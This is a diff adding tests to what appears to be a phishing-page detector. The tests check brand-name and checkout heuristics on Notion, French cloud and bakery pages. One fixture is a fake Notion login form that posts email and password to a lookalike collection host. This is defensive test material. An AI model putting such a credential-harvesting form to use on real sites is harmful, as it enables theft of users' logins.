@@ -299,6 +299,60 @@ describe("the page's own name against the name's readings", () => {
     expect(finding(ask, "CON-013")?.severity).toBe("Medium");
   });
 
+  it("takes a platform's own name in the site-name tag of its user's page for the platform's label", async () => {
+    const post = await analyze(
+      "https://moaletter.notion.site/backend-engineer",
+      page(
+        "[채용] 백엔드 엔지니어 | 모아레터",
+        "<h1>백엔드 엔지니어</h1><p>결제·정산 팀에서 함께할 분을 찾습니다.</p>",
+        '<meta property="og:site_name" content="Notion">',
+      ),
+    );
+    expect(codes(post)).not.toContain("CON-020");
+    expect(post.final_assessment).toBe("Benign");
+    // A sign-in under the platform's name in the page's own title still claims it.
+    const kit = await analyze(
+      "https://moaletter.notion.site/login",
+      page(
+        "Notion – Log in",
+        "<form action='https://n0tion-auth.example-kit.top/p.php' method='post'><input type='email' name='e'><input type='password' name='p'><button>Continue</button></form>",
+        '<meta property="og:site_name" content="Notion">',
+      ),
+    );
+    expect(codes(kit)).toContain("CON-020");
+  });
+
+  it("reads a common phrase that spells a dictionary-word bank's name as the phrase", async () => {
+    const cloud = await analyze(
+      "https://nuage.jardins-lyon7.fr/login",
+      page(
+        "Nuage des Jardins Partagés de Lyon 7e",
+        "<h1>Nuage des Jardins Partagés</h1><form action='/index.php/login' method='post'><input name='user'><input type='password' name='password'><button>Se connecter</button></form>",
+      ),
+    );
+    expect(codes(cloud)).not.toContain("CON-021");
+    expect(cloud.final_assessment).toBe("Benign");
+  });
+
+  it("lets a shop's own card checkout on a shop TLD pass when nothing else looks like a fake shop", async () => {
+    const checkout = (title: string, extra = "") =>
+      page(
+        title,
+        `<h1>Boulangerie Mathis</h1><p>Commande de Noël : bûche, pain d'épices.</p>${extra}<form action='/commande/payer' method='post'><input name='cc' autocomplete='cc-number'><input name='exp' autocomplete='cc-exp'><input name='cvc' autocomplete='cc-csc'><button>Payer 38,50 €</button></form>`,
+      );
+    const own = await analyze(
+      "https://www.boulangerie-mathis.shop/commande/paiement",
+      checkout("Paiement – Boulangerie Mathis"),
+    );
+    expect(own.final_assessment).toBe("Benign");
+    // The same checkout with a password beside the card is no plain checkout.
+    const withPassword = await analyze(
+      "https://www.boulangerie-mathis.shop/commande/paiement",
+      checkout("Paiement – Boulangerie Mathis", "<input type='password' name='pw'>"),
+    );
+    expect(withPassword.final_assessment).toBe("Suspicious");
+  });
+
   it("does not let the name model decide a project's own sign-in on a platform subdomain named like it", async () => {
     const signIn = (title: string) =>
       page(
